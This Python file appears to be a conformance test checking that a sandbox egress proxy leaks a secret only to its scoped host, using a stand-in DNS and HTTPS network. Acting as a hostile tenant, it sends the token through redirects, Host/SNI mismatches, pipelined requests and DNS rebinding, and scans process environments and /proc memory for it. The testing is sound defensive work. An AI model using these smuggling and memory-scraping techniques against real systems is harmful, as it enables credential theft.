"""Secrets at egress against a hostile sandbox, through the unmodified `e2b` SDK.

tests/e2b/vault.py checks the API and the placeholder; this checks what the egress proxy puts
on the wire, so it needs a stand-in for the internet and starts its own server
(`$RINGFENCE_BIN serve`, own data directory and port, stopped and removed at the end) with:

- a network namespace of its own (`--egress-netns`): the proxy dials and asks DNS from there;
  the stand-in's documentation addresses live on its loopback (`--egress-exempt` for the two
  web addresses: being that namespace's own, the ceiling would block them);
- a test CA (made here with `cryptography`) given to the server as `--egress-extra-ca`, so
  the proxy's upstream TLS verification accepts the stand-in;
- a tiny DNS server (`--dns-upstream`) answering the test's names:
  api.vault.test -> 203.0.113.9 (the secret's scope), alias.vault.test -> 203.0.113.9 (the
  same address under another name), other.vault.test -> 203.0.113.10 (a rule that does not
  name the secret), plain.vault.test -> 203.0.113.10 (no rule: passed through untouched);
- HTTPS servers on 203.0.113.9:443 and 203.0.113.10:443 that record every request (address,
  SNI, headers), echo the headers back, and redirect on request.

Each hostile attempt is made from commands in the sandbox (curl, python) and the assertion is
on what arrived at the stand-in, not only on what the sandbox saw. Needs root (namespaces);
SKIPPED otherwise. Run by scripts/conformance.sh with RINGFENCE_BIN set.
"""

import ctypes
import datetime
import http.server
import json
import os
import shutil
import socket
import socketserver
import ssl
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

from checks import check

VALUE = "sk-hostile-5f3c9a7e1d2b4c60"
SECRET = "vh-token"
PLACEHOLDER = "${e2b.secrets.%s}" % SECRET
# Documentation addresses (RFC 5737), on the loopback of a network namespace this test makes
# and gives the server as `--egress-netns`: the proxy dials (and asks DNS) from there, so the
# stand-in is reachable to it and to nothing else on the host. (Host loopback addresses would
# not do: inside a sandbox 127/8 is the sandbox's own loopback and never reaches the proxy.)
SCOPED_IP, OTHER_IP, DNS_IP = "203.0.113.9", "203.0.113.10", "203.0.113.53"
NETNS = f"rf-vaulth{os.getpid()}"
CLONE_NEWNET = 0x40000000
ZONE = {
    "api.vault.test": SCOPED_IP,
    "alias.vault.test": SCOPED_IP,
    "other.vault.test": OTHER_IP,
    "plain.vault.test": OTHER_IP,
}
MASK = "*" * len(VALUE)


# ---- the stand-in internet -------------------------------------------------------------

def make_pki(d):
    """A CA and one leaf for every name of the zone; returns (ca pem path, cert, key)."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    now = datetime.datetime.now(datetime.timezone.utc)
    ca_key = ec.generate_private_key(ec.SECP256R1())
    ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "vault_hostile test CA")])
    ca = (x509.CertificateBuilder().subject_name(ca_name).issuer_name(ca_name)
          .public_key(ca_key.public_key()).serial_number(x509.random_serial_number())
          .not_valid_before(now - datetime.timedelta(hours=1))
          .not_valid_after(now + datetime.timedelta(days=1))
          .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
          .add_extension(x509.KeyUsage(digital_signature=True, key_cert_sign=True, crl_sign=True,
                                       content_commitment=False, key_encipherment=False,
                                       data_encipherment=False, key_agreement=False,
                                       encipher_only=False, decipher_only=False), critical=True)
          .add_extension(x509.SubjectKeyIdentifier.from_public_key(ca_key.public_key()), critical=False)
          .sign(ca_key, hashes.SHA256()))
    key = ec.generate_private_key(ec.SECP256R1())
    leaf = (x509.CertificateBuilder()
            .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "api.vault.test")]))
            .issuer_name(ca_name).public_key(key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(hours=1))
            .not_valid_after(now + datetime.timedelta(days=1))
            .add_extension(x509.SubjectAlternativeName([x509.DNSName(n) for n in ZONE]), critical=False)
            .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
            .add_extension(x509.ExtendedKeyUsage([x509.oid.ExtendedKeyUsageOID.SERVER_AUTH]), critical=False)
            .add_extension(x509.AuthorityKeyIdentifier.from_issuer_public_key(ca_key.public_key()), critical=False)
            .sign(ca_key, hashes.SHA256()))
    pem = serialization.Encoding.PEM
    ca_path, cert_path, key_path = (os.path.join(d, n) for n in ("ca.pem", "leaf.pem", "leaf.key"))
    with open(ca_path, "wb") as f:
        f.write(ca.public_bytes(pem))
    with open(cert_path, "wb") as f:
        f.write(leaf.public_bytes(pem) + ca.public_bytes(pem))
    with open(key_path, "wb") as f:
        f.write(key.private_bytes(pem, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    return ca_path, cert_path, key_path


def make_netns():
    subprocess.run(["ip", "netns", "add", NETNS], check=True)
    subprocess.run(["ip", "-n", NETNS, "link", "set", "lo", "up"], check=True)
    for a in (SCOPED_IP, OTHER_IP, DNS_IP):
        subprocess.run(["ip", "-n", NETNS, "addr", "add", f"{a}/32", "dev", "lo"], check=True)


def in_netns(fn):
    """Runs fn with this thread in the test's namespace: sockets it makes stay there."""
    libc = ctypes.CDLL(None, use_errno=True)
    here = os.open("/proc/thread-self/ns/net", os.O_RDONLY)
    there = os.open(f"/run/netns/{NETNS}", os.O_RDONLY)
    try:
        if libc.setns(there, CLONE_NEWNET) != 0:
            raise OSError(ctypes.get_errno(), f"setns into {NETNS}")
        try:
            return fn()
        finally:
            if libc.setns(here, CLONE_NEWNET) != 0:
                # A thread left in the wrong namespace would make every later check wrong.
                print(f"vault_hostile: could not return to the host's network namespace "
                      f"(errno {ctypes.get_errno()})", file=sys.stderr)
                os._exit(1)
    finally:
        os.close(here)
        os.close(there)


def dns_server(stop):
    """Answers A queries for ZONE (NXDOMAIN for other names, no answer for other types)."""
    sock = in_netns(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    sock.bind((DNS_IP, 53))
    sock.settimeout(0.2)

    def serve():
        while not stop.is_set():
            try:
                q, peer = sock.recvfrom(2048)
            except OSError:
                continue
            try:
                i, labels = 12, []
                while q[i]:
                    labels.append(q[i + 1:i + 1 + q[i]].decode().lower())
                    i += 1 + q[i]
                qtype = int.from_bytes(q[i + 1:i + 3], "big")
                question = q[12:i + 5]
            except (IndexError, UnicodeDecodeError):
                continue
            name = ".".join(labels)
            ip = ZONE.get(name)
            rcode = 0 if ip else 3
            answers = b""
            if ip and qtype == 1:
                answers = (b"\xc0\x0c" + (1).to_bytes(2, "big") + (1).to_bytes(2, "big")
                           + (5).to_bytes(4, "big") + (4).to_bytes(2, "big") + socket.inet_aton(ip))
            flags = 0x8180 | rcode  # response, recursion desired and available
            head = q[:2] + flags.to_bytes(2, "big") + (1).to_bytes(2, "big") \
                + (1 if answers else 0).to_bytes(2, "big") + b"\0\0\0\0"
            sock.sendto(head + question + answers, peer)

    threading.Thread(target=serve, daemon=True).start()
    return sock.getsockname()


SEEN = []  # (local address, SNI, request line, headers text), one per request received
SEEN_LOCK = threading.Lock()


class Echo(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def do_GET(self):
        local = self.connection.getsockname()[0]
        sni = getattr(self.connection, "sni", None)
        headers = "".join(f"{k}: {v}\n" for k, v in self.headers.items())
        with SEEN_LOCK:
            SEEN.append((local, sni, self.requestline, headers))
        if self.path.startswith("/redirect?to="):
            self.send_response(302)
            self.send_header("Location", self.path[len("/redirect?to="):])
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        body = f"stand-in {local} sni={sni}\n{headers}".encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


class TLSServer(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True

    def __init__(self, addr, ctx):
        self.ctx = ctx
        super().__init__(addr, Echo)

    def get_request(self):
        sock, peer = self.socket.accept()
        # The handshake happens in the handler's thread (first read), not in accept.
        return self.ctx.wrap_socket(sock, server_side=True, do_handshake_on_connect=False), peer

    def finish_request(self, request, client_address):
        try:
            request.do_handshake()
        except (ssl.SSLError, OSError):
            return
        super().finish_request(request, client_address)


def https_servers(cert, key):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)

    def remember_sni(sslsock, name, _ctx):
        sslsock.sni = name

    ctx.sni_callback = remember_sni
    servers = []
    for ip in (SCOPED_IP, OTHER_IP):
        s = in_netns(lambda: TLSServer((ip, 443), ctx))
        threading.Thread(target=s.serve_forever, daemon=True).start()
        servers.append(s)
    return servers


def seen(pred=lambda r: True):
    with SEEN_LOCK:
        return [r for r in SEEN if pred(r)]


# ---- the server under test --------------------------------------------------------------

def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def start_server(binary, data, ca_path, dns_addr):
    os.chmod(data, 0o755)  # sandboxes mount the template from here as an unprivileged user
    keys = subprocess.run([binary, "keys", "create", "--name", "vault-hostile", "--data-dir", data],
                          check=True, capture_output=True, text=True)
    key = keys.stdout.strip().splitlines()[-1]
    port = free_port()
    log = open(os.path.join(data, "serve.log"), "ab")
    proc = subprocess.Popen(
        [binary, "serve", "--listen", f"127.0.0.1:{port}", "--data-dir", data,
         "--egress-extra-ca", ca_path, "--dns-upstream", f"{dns_addr[0]}:{dns_addr[1]}",
         "--egress-netns", f"/run/netns/{NETNS}",
         # They are that namespace's own addresses, which the ceiling blocks unless exempted.
         "--egress-exempt", f"{SCOPED_IP}/32", "--egress-exempt", f"{OTHER_IP}/32"],
        stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    for _ in range(300):
        if proc.poll() is not None:
            break
        try:
            urllib.request.urlopen(url + "/health", timeout=1).read()
            return proc, url, key
        except OSError:
            time.sleep(0.1)
    proc.kill()
    proc.wait()
    raise RuntimeError("the server did not come up:\n" + server_log(data))


def server_log(data):
    try:
        with open(os.path.join(data, "serve.log"), errors="replace") as f:
            return "".join(f.readlines()[-40:])
    except OSError:
        return ""


def egress_records(url, key, sandbox):
    """The sandbox's egress decisions, one line each (printed when a check fails)."""
    req = urllib.request.Request(f"{url}/audit?sandbox={sandbox}&action=network.egress&limit=200",
                                 headers={"X-API-Key": key})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            records = json.load(r)["records"]
    except (OSError, ValueError) as e:
        return f"(could not read them: {e})"
    return "\n".join(json.dumps(r.get("detail", r)) for r in records)


# ---- the checks -------------------------------------------------------------------------

# Run inside the sandbox: every process's environment and readable memory, and the files under
# the usual writable trees. The needle comes in reversed so this process never holds it forwards.
SCAN = r'''
import os, re
v = os.environ["NEEDLE"].encode()[::-1]
hits = []
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        if v in open(f"/proc/{pid}/environ", "rb").read():
            hits.append(f"environ {pid}")
        mem = open(f"/proc/{pid}/mem", "rb", 0)
        for line in open(f"/proc/{pid}/maps"):
            m = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
            if not m:
                continue
            a, b = int(m.group(1), 16), int(m.group(2), 16)
            if b - a > 1 << 30:
                continue
            try:
                mem.seek(a)
                if v in mem.read(b - a):
                    hits.append(f"memory {pid} {line.strip()}")
            except OSError:
                pass
    except OSError:
        pass
for root in ["/etc", "/tmp", "/home", "/root", "/usr/local", "/var"]:
    for d, _, files in os.walk(root):
        for f in files:
            try:
                if v in open(os.path.join(d, f), "rb").read():
                    hits.append(os.path.join(d, f))
            except OSError:
                pass
print("hits:", hits)
'''

# Two requests pipelined on one terminated connection: the first for the scoped host, the
# second naming another host. Prints what came back.
PIPELINE = r'''
import os, socket, ssl
ctx = ssl.create_default_context(cafile="/var/lib/ringfence/egress-ca.pem")
s = ctx.wrap_socket(socket.create_connection(("api.vault.test", 443), timeout=10),
                    server_hostname="api.vault.test")
s.sendall(b"GET /headers HTTP/1.1\r\nHost: api.vault.test\r\n\r\n"
          b"GET /headers HTTP/1.1\r\nHost: plain.vault.test\r\nX-Key: %s\r\n\r\n"
          % os.environ["PH"].encode())
out = b""
while True:
    try:
        b = s.recv(65536)
    except (OSError, ssl.SSLError):
        break
    if not b:
        break
    out += b
print(out.decode(errors="replace"))
'''


def run(sbx, cmd):
    r = sbx.commands.run(cmd, timeout=60)
    return r.stdout + r.stderr


def sandbox_run(sbx, cmd):
    from e2b.sandbox.commands.command_handle import CommandExitException
    try:
        return run(sbx, cmd)
    except CommandExitException as e:  # curl's failures are part of what is checked
        return (e.stdout or "") + (e.stderr or "")


def scenario(sbx, ca_pem):
    from e2b import Secret

    # Both trust anchors the sandbox needs: its own egress CA (terminated hosts) and the
    # stand-in's CA (hosts passed through untouched, where it talks to the stand-in itself).
    sbx.files.write("/tmp/inet.pem", ca_pem)
    sandbox_run(sbx, "cat /var/lib/ringfence/egress-ca.pem /tmp/inet.pem > /tmp/both.pem")
    curl = "curl -sS -m 10 --cacert /tmp/both.pem "

    out = sandbox_run(sbx, 'echo "env=$TOKEN"; ' + curl + '-H "X-Key: $TOKEN" https://api.vault.test/headers')
    got = seen(lambda r: r[1] == "api.vault.test")
    check("hostile: the sandbox's env holds the placeholder", f"env={PLACEHOLDER}" in out, out)
    check("hostile: the scoped host receives the value (rule header and the sandbox's own)",
          len(got) == 1 and f"Authorization: Bearer {VALUE}" in got[0][3]
          and f"X-Key: {VALUE}" in got[0][3] and got[0][0] == SCOPED_IP, got)
    check("hostile: the scoped host's echo of the value is masked in the response",
          VALUE not in out and f"Authorization: Bearer {MASK}" in out and f"X-Key: {MASK}" in out, out)

    # Another host, with a rule of its own that does not name the secret (terminated).
    before = len(SEEN)
    out = sandbox_run(sbx, curl + '-H "X-Key: $TOKEN" https://other.vault.test/headers')
    got = seen()[before:]
    check("hostile: another host's rule applies but the placeholder goes out as written",
          len(got) == 1 and got[0][:2] == (OTHER_IP, "other.vault.test")
          and f"X-Key: {PLACEHOLDER}" in got[0][3] and "X-Team: qa" in got[0][3]
          and VALUE not in got[0][3], (got, out))
    # A host with no rule: passed through untouched (the sandbox verifies the stand-in itself).
    before = len(SEEN)
    out = sandbox_run(sbx, curl + '-H "X-Key: $TOKEN" https://plain.vault.test/headers')
    got = seen()[before:]
    check("hostile: a host without a rule gets the placeholder as written",
          len(got) == 1 and got[0][:2] == (OTHER_IP, "plain.vault.test")
          and f"X-Key: {PLACEHOLDER}" in got[0][3] and "Authorization" not in got[0][3], (got, out))

    # Redirects from the scoped host to others; curl re-sends its headers (--location-trusted).
    for target in ("https://plain.vault.test/headers", "https://other.vault.test/headers"):
        before = len(SEEN)
        out = sandbox_run(sbx, curl + f'-L --location-trusted -H "X-Key: $TOKEN" '
                          f'"https://api.vault.test/redirect?to={target}"')
        got = seen()[before:]
        host = target.split("/")[2]
        check(f"hostile: a redirect from the scoped host to {host} does not carry the value",
              len(got) == 2 and got[0][1] == "api.vault.test" and got[1][:2] == (OTHER_IP, host)
              and VALUE not in got[1][3] and f"X-Key: {PLACEHOLDER}" in got[1][3]
              and VALUE not in out, (got, out))

    # Host header naming another host on a connection to the scoped SNI: refused, never sent.
    for extra, why in (('-H "Host: plain.vault.test"', "differs from the TLS server name"),
                       ('-H "Host: api.vault.test.plain.vault.test"', "differs from the TLS server name"),
                       ("--request-target https://plain.vault.test/headers", "the request names"),
                       ("--request-target https://api.vault.test@plain.vault.test/headers",
                        "the request names")):
        before = len(SEEN)
        out = sandbox_run(sbx, curl + f'-w "status=%{{http_code}}" {extra} -H "X-Key: $TOKEN" '
                          "https://api.vault.test/headers")
        check(f"hostile: {extra} to the scoped SNI is refused with 421 and nothing is sent",
              "status=421" in out and why in out and len(SEEN) == before and VALUE not in out,
              (out, seen()[before:]))
    # The same on a kept-alive connection: the first request is fine, the second names another
    # host; only the first reaches the stand-in.
    before = len(SEEN)
    sbx.files.write("/tmp/pipeline.py", PIPELINE)
    out = sandbox_run(sbx, f"PH='{PLACEHOLDER}' python3 /tmp/pipeline.py")
    got = seen()[before:]
    one = len(got) == 1 and got[0][1] == "api.vault.test" and "Host: api.vault.test" in got[0][3]
    if one and "connection: close" in got[0][3]:
        # A server from before kept-alive terminated connections closes after each request
        # (it says so upstream): the second request is never read, so never sent.
        print("note: this server closes terminated connections after one request; "
              "checking that the second was not sent")
        check("hostile: a second request on a terminated connection naming another host is not sent",
              out.count("HTTP/1.1 ") == 1 and VALUE not in out, (got, out))
    else:
        check("hostile: a second request on a kept-alive connection naming another host is refused",
              one and "421 Misdirected Request" in out and "differs from the TLS server name" in out
              and VALUE not in out, (got, out))

    # SNI of another host, Host of the scoped one.
    before = len(SEEN)
    out = sandbox_run(sbx, curl + '-w "status=%{http_code}" -H "Host: api.vault.test" '
                      "https://other.vault.test/headers")
    check("hostile: SNI of a ruled other host with Host of the scoped one is refused with 421",
          "status=421" in out and len(SEEN) == before, (out, seen()[before:]))
    before = len(SEEN)
    out = sandbox_run(sbx, curl + '-H "Host: api.vault.test" -H "X-Key: $TOKEN" https://plain.vault.test/headers')
    got = seen()[before:]
    check("hostile: SNI of an unruled host with Host of the scoped one passes untouched, no value",
          len(got) == 1 and got[0][:2] == (OTHER_IP, "plain.vault.test")
          and "Host: api.vault.test" in got[0][3] and VALUE not in got[0][3]
          and "Authorization" not in got[0][3], (got, out))

    # Rebinding and aliases: the scoped host's address under another name, and the scoped name
    # at an address our resolver never gave for it.
    for label, cmd, expect in (
        ("a name resolving to the scoped host's address",
         curl + '-H "X-Key: $TOKEN" https://alias.vault.test/headers', (SCOPED_IP, "alias.vault.test")),
        ("that name with Host of the scoped one",
         curl + '-H "Host: api.vault.test" -H "X-Key: $TOKEN" https://alias.vault.test/headers',
         (SCOPED_IP, "alias.vault.test")),
        ("the scoped name forced by the sandbox (curl --resolve) to another address",
         curl + f'--resolve api.vault.test:443:{OTHER_IP} -H "X-Key: $TOKEN" https://api.vault.test/headers',
         (OTHER_IP, "api.vault.test")),
    ):
        before = len(SEEN)
        out = sandbox_run(sbx, cmd)
        got = seen()[before:]
        check(f"hostile: {label} gets no value (passed through untouched)",
              len(got) == 1 and got[0][:2] == expect and VALUE not in got[0][3]
              and f"X-Key: {PLACEHOLDER}" in got[0][3] and "Authorization" not in got[0][3],
              (got, out))

    # Over everything so far: the value reached the scoped host's address under its name only.
    leaked = [r for r in seen() if VALUE in r[3] and r[:2] != (SCOPED_IP, "api.vault.test")]
    check("hostile: no request to another host or name ever carried the value", not leaked, leaked)

    # The value is nowhere inside the sandbox.
    out = sandbox_run(sbx, "grep -rl 'sk-hostile' /etc /home /tmp 2>/dev/null; "
                      "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c sk-hostile; true")
    check("hostile: the value is in no file or process environment of the sandbox",
          VALUE not in out and out.strip().endswith("0"), out)
    reversed_value = VALUE[::-1]
    sbx.files.write("/tmp/scan.py", SCAN)
    out = sandbox_run(sbx, f"NEEDLE='{reversed_value}' python3 /tmp/scan.py")
    check("hostile: the value is in no process's memory or file (scan of /proc and the trees)",
          "hits: []" in out, out)

    # Destroyed: the scoped host's requests are refused rather than sent without it.
    Secret.destroy(SECRET)
    before = len(SEEN)
    out = sandbox_run(sbx, curl + '-w "status=%{http_code}" https://api.vault.test/headers')
    check("hostile: after the secret is destroyed the scoped host's request is refused (502), not sent",
          "status=502" in out and "does not exist" in out and len(SEEN) == before, out)


def main():
    binary = os.environ.get("RINGFENCE_BIN")
    if not binary:
        print("SKIPPED vault_hostile: RINGFENCE_BIN is not set")
        return
    if os.geteuid() != 0:
        print("SKIPPED vault_hostile: needs root (the stand-in binds port 443)")
        return
    tmp = tempfile.mkdtemp(prefix="vault-hostile-")
    data = os.path.join(tmp, "data")
    os.mkdir(data)
    stop = threading.Event()
    servers, proc, sbx, url, api_key, netns = [], None, None, None, None, False
    try:
        ca_path, cert, key = make_pki(tmp)
        make_netns()
        netns = True
        dns_addr = dns_server(stop)
        servers = https_servers(cert, key)
        proc, url, api_key = start_server(binary, data, ca_path, dns_addr)
        os.environ.update({"E2B_API_URL": url, "E2B_SANDBOX_URL": url, "E2B_API_KEY": api_key})
        os.environ["NO_PROXY"] = os.environ["no_proxy"] = "127.0.0.1,localhost"
        from e2b import Sandbox, Secret

        Secret.create(SECRET, VALUE)
        rules = {
            "api.vault.test": [{"transform": {"headers": {"Authorization": f"Bearer {Secret.fill(SECRET)}"}}}],
            "other.vault.test": [{"transform": {"headers": {"X-Team": "qa"}}}],
        }
        sbx = Sandbox.create(envs={"TOKEN": Secret.fill(SECRET)}, network={"rules": rules},
                             api_key=api_key)
        with open(ca_path) as f:
            scenario(sbx, f.read())
        log = server_log(data)
        check("hostile: the server's log never has the value", VALUE not in log)
        req = urllib.request.Request(f"{url}/audit?limit=1000", headers={"X-API-Key": api_key})
        with urllib.request.urlopen(req, timeout=30) as r:
            audit = r.read().decode()
        records = json.loads(audit)["records"]
        check("hostile: no audit record has the value; the scoped requests' records name rule and secret",
              VALUE not in audit and any(
                  (x.get("detail") or {}).get("rule") == "api.vault.test"
                  and (x.get("detail") or {}).get("secrets") == [SECRET] for x in records), audit[:2000])
    except BaseException:
        if sbx is not None:
            print("--- egress records (vault_hostile) ---", file=sys.stderr)
            print(egress_records(url, api_key, sbx.sandbox_id), file=sys.stderr)
        print("--- server log (vault_hostile) ---", file=sys.stderr)
        print(server_log(data), file=sys.stderr)
        raise
    finally:
        if sbx is not None:
            try:
                sbx.kill()
            except Exception as e:  # the server is stopped next either way
                print(f"killing the sandbox: {e}", file=sys.stderr)
        if proc is not None:
            proc.terminate()
            try:
                proc.wait(timeout=20)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()
        stop.set()
        for s in servers:
            s.shutdown()
            s.server_close()
        if netns:
            subprocess.run(["ip", "netns", "del", NETNS], check=False)
        shutil.rmtree(tmp, ignore_errors=True)


if __name__ == "__main__":
    main()
